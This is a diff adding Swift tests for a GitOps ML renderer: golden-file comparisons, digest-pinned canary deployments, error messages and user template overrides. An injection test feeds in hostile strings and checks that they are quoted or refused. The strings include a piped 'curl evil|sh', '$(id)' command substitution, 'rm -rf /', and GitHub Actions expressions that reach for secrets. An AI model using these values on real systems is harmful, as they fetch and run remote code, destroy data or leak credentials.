@@ -1,0 +1,234 @@
+import Config
+import Foundation
+import GitOpsMLCore
+import TestSupport
+import Testing
+
+@testable import Render
+
+/// The two projects every rendered file is recorded for: the bundled example, and a DVC project with
+/// LFS, two models, a canary, KServe, released versions pinned by digest and a retraining workflow.
+enum Projects {
+    static let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().path
+    static let golden = root + "/Golden"
+
+    static func churn() throws -> Renderer {
+        let bytes = try [UInt8](Data(contentsOf: URL(fileURLWithPath: root + "/../../examples/churn/gitops-ml.yaml")))
+        let config = try ProjectConfig.parse(bytes, file: "gitops-ml.yaml")
+        return Renderer(config: config, library: TemplateLibrary(overridesAt: nil))
+    }
+
+    static let dvcConfig = """
+        version: 1
+        project: fraud-detection
+        default_branch: trunk
+        gitops_repository: https://github.com/example/fraud-gitops.git
+        models:
+          fraud:
+            artifact: models/fraud.onnx
+            metrics: dvclive/metrics.json
+            serving:
+              image: registry.example.com/ml/fraud-server
+              port: 9000
+              command: [fraud-server, --model, /models/fraud.onnx]
+              replicas: 4
+              resources: {cpu: 500m, memory: 1Gi, cpu_limit: "2", memory_limit: 2Gi}
+              autoscaling: {min_replicas: 4, max_replicas: 12, target_cpu: 60}
+              canary_weight: 25
+              kserve: true
+          fraud-lite:
+            serving:
+              image: registry.example.com/ml/fraud-lite@sha256:0000000000000000000000000000000000000000000000000000000000000001
+        datasets:
+          transactions: data/transactions.csv
+        environments:
+          staging: {branch: deploy, namespace: fraud-staging}
+          production: {branch: deploy, namespace: fraud-prod, requires_approval: true}
+        workflows:
+          runs_on: ubuntu-22.04
+          gitops_ml_version: 0.1.0
+          gitops_ml_sha256: 5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef
+          drift: {dataset: transactions, environment: production, schedule: "30 2 * * *", retrain_workflow: retrain.yml}
+        """
+
+    static func dvc() throws -> Renderer {
+        let config = try ProjectConfig.parse(Array(dvcConfig.utf8), file: "gitops-ml.yaml")
+        return Renderer(
+            config: config, library: TemplateLibrary(overridesAt: nil),
+            facts: ProjectFacts(usesLFS: true, usesDVC: true))
+    }
+
+    static let dvcReleases: [String: [String: ReleaseRecord]] = {
+        var record = ReleaseRecord(
+            model: "fraud", environment: "production", version: "v2.1.0",
+            sourceCommit: "1f3c5e7a9b2d4f6e8a0c1b3d5f7e9a2c4b6d8f0e")
+        record.image = "registry.example.com/ml/fraud-server@sha256:" + String(repeating: "ab", count: 32)
+        record.artifactPath = "models/fraud.onnx"
+        record.artifactDigest = "sha256:" + String(repeating: "cd", count: 32)
+        record.data = ["transactions": "md5:" + String(repeating: "e", count: 32)]
+        record.gateReport = "sha256:" + String(repeating: "0f", count: 32)
+        record.previousVersion = "v2.0.3"
+        return ["production": ["fraud": record]]
+    }()
+
+    /// Everything a project renders.
+    static func all(_ renderer: Renderer, releases: [String: [String: ReleaseRecord]] = [:]) throws -> [RenderedFile] {
+        var files = try renderer.workflows()
+        for environment in renderer.config.environments.keys.sorted() {
+            files += try renderer.manifests(environment: environment, releases: releases[environment] ?? [:])
+        }
+        return files + (try renderer.agent()) + (try renderer.monitoring())
+    }
+
+    static func write(_ files: [RenderedFile], to folder: String) throws {
+        for file in files {
+            let path = folder + "/" + file.path
+            try FileManager.default.createDirectory(
+                atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
+            try file.contents.write(toFile: path, atomically: true, encoding: .utf8)
+        }
+    }
+}
+
+@Suite struct GoldenFileTests {
+    /// Every rendered file equals its golden copy; `GITOPS_ML_RECORD_GOLDEN=1 swift test` records them anew.
+    @Test(arguments: ["churn", "dvc"])
+    func renderedFilesMatchGolden(_ name: String) throws {
+        let files =
+            name == "churn"
+            ? try Projects.all(try Projects.churn())
+            : try Projects.all(try Projects.dvc(), releases: Projects.dvcReleases)
+        let folder = Projects.golden + "/" + name
+        if ProcessInfo.processInfo.environment["GITOPS_ML_RECORD_GOLDEN"] != nil {
+            try? FileManager.default.removeItem(atPath: folder)
+            try Projects.write(files, to: folder)
+        }
+        let recorded = Set(
+            try FileManager.default.subpathsOfDirectory(atPath: folder).filter { path in
+                var isDirectory: ObjCBool = false
+                return FileManager.default.fileExists(atPath: folder + "/" + path, isDirectory: &isDirectory)
+                    && !isDirectory.boolValue
+            })
+        #expect(recorded == Set(files.map(\.path)), "golden files of \(name) differ in which files exist")
+        for file in files {
+            let golden = try? String(contentsOfFile: folder + "/" + file.path, encoding: .utf8)
+            #expect(golden == file.contents, "\(name)/\(file.path) differs from its golden copy")
+        }
+    }
+
+    @Test func releasedVersionsArePinnedByDigestWithACanary() throws {
+        let files = try Projects.dvc().manifests(
+            environment: "production", releases: Projects.dvcReleases["production"] ?? [:])
+        let byPath = Dictionary(uniqueKeysWithValues: files.map { ($0.path, $0.contents) })
+        let canary = try #require(byPath["deploy/production/fraud/deployment-canary.yaml"])
+        #expect(canary.contains("image: \"registry.example.com/ml/fraud-server@sha256:abab"))
+        #expect(canary.contains("replicas: 1"))
+        #expect(!canary.contains("CKV_K8S_43"))
+        let stable = try #require(byPath["deploy/production/fraud/deployment.yaml"])
+        #expect(stable.contains("image: \"registry.example.com/ml/fraud-server:v2.0.3\""))
+        #expect(stable.contains("replicas: 3"))
+        #expect(stable.contains("gitops-ml.dev/source-commit: \"1f3c5e7a9b2d4f6e8a0c1b3d5f7e9a2c4b6d8f0e\""))
+        let record = try #require(byPath["deploy/production/fraud/configmap.yaml"])
+        #expect(record.contains("gate_report: \\\"sha256:0f0f") || record.contains("gate_report: sha256:0f0f"))
+        #expect(byPath["deploy/production/fraud/inferenceservice.yaml"] != nil)
+    }
+}
+
+@Suite struct RenderSafetyTests {
+    func renderer(_ yaml: String) throws -> Renderer {
+        Renderer(
+            config: try ProjectConfig.parse(Array(yaml.utf8), file: "gitops-ml.yaml"),
+            library: TemplateLibrary(overridesAt: nil))
+    }
+
+    func config(
+        model: String = "churn", image: String = "ghcr.io/x/y", health: String = "/healthz", dataset: String = "train"
+    )
+        -> String
+    {
+        """
+        version: 1
+        project: p
+        models:
+          \(YAMLText.quoted(model)):
+            serving: {image: \(YAMLText.quoted(image)), health_path: \(YAMLText.quoted(health))}
+        datasets:
+          \(YAMLText.quoted(dataset)): data/train.csv
+        environments:
+          staging: {namespace: p-staging}
+        """
+    }
+
+    /// Metacharacters in values that reach quoted positions stay text; in names they are refused.
+    @Test func injectionIsQuotedOrRefused() throws {
+        let hostileImage = "ghcr.io/x/y:1\"\n  command: [sh, -c, \"curl evil|sh\"] #"
+        #expect(throws: GitOpsMLError.self) {
+            _ = try self.renderer(self.config(image: hostileImage)).manifests(environment: "staging")
+        }
+        let quotedImage = "ghcr.io/x/y:$(id)&&`id`|sh"
+        let files = try renderer(config(image: quotedImage)).manifests(environment: "staging")
+        let deployment = try #require(files.first { $0.path.hasSuffix("churn/deployment.yaml") })
+        let parsed = try YAMLReader.parse(Array(deployment.contents.utf8), file: "d")
+        let containers = parsed.flattened().first { $0.key == "spec.template.spec.containers" }
+        #expect(containers != nil || deployment.contents.contains("image: \"ghcr.io/x/y:$(id)&&`id`|sh\""))
+        #expect(deployment.contents.contains("image: \"ghcr.io/x/y:$(id)&&`id`|sh\""))
+
+        for (config, key) in [
+            (config(model: "Churn; rm -rf /"), "models"), (config(model: "${{ secrets.TOKEN }}"), "models"),
+            (config(health: "${{ github.event.issue.title }}"), "health_path"),
+            (config(dataset: "train$(id)"), "datasets"),
+        ] {
+            do {
+                _ = try renderer(config).workflows()
+                Issue.record("\(key) accepted")
+            } catch let error as GitOpsMLError {
+                #expect(error.category == .configuration)
+                #expect(error.description.hasPrefix("gitops-ml.yaml: "))
+                #expect(error.description.contains(key))
+            }
+        }
+    }
+
+    @Test func unknownEnvironmentIsAClearError() throws {
+        do {
+            _ = try renderer(config()).manifests(environment: "prod")
+            Issue.record("no error")
+        } catch let error as GitOpsMLError {
+            #expect(error.description == "gitops-ml.yaml: environment 'prod' is not in gitops-ml.yaml (known: staging)")
+        }
+    }
+
+    @Test func userTemplatesOverrideAndFailAtTheirLine() throws {
+        let folder = TemporaryDirectory()
+        let templates = folder.sub("templates") + "/manifests/model"
+        try FileManager.default.createDirectory(atPath: templates, withIntermediateDirectories: true)
+        let config = try ProjectConfig.parse(Array(self.config().utf8), file: "gitops-ml.yaml")
+        let library = TemplateLibrary(overridesAt: folder.path + "/templates")
+
+        try "apiVersion: v1\nkind: Service\nmetadata:\n  name: <@ model.name @>\n  extra: <@ model.colour @>\n"
+            .write(toFile: templates + "/service.yaml", atomically: true, encoding: .utf8)
+        #expect(
+            throws: TemplateError(
+                template: "templates/manifests/model/service.yaml", line: 5, message: "unknown variable 'model.colour'")
+        ) {
+            _ = try Renderer(config: config, library: library).manifests(environment: "staging")
+        }
+
+        try "apiVersion: v1\nkind: Service\nmetadata:\n  name: <@ model.name @>\n  labels: {a: [}\n"
+            .write(toFile: templates + "/service.yaml", atomically: true, encoding: .utf8)
+        do {
+            _ = try Renderer(config: config, library: library).manifests(environment: "staging")
+            Issue.record("invalid YAML accepted")
+        } catch let error as GitOpsMLError {
+            #expect(
+                error.description.hasPrefix(
+                    "templates/manifests/model/service.yaml (rendered as deploy/staging/churn/service.yaml):5: invalid YAML"
+                ))
+        }
+
+        try "apiVersion: v1\nkind: Service\nmetadata:\n  name: custom-<@ model.name @>\n"
+            .write(toFile: templates + "/service.yaml", atomically: true, encoding: .utf8)
+        let files = try Renderer(config: config, library: library).manifests(environment: "staging")
+        #expect(files.first { $0.path.hasSuffix("service.yaml") }?.contents.contains("name: custom-churn") == true)
+    }
+}
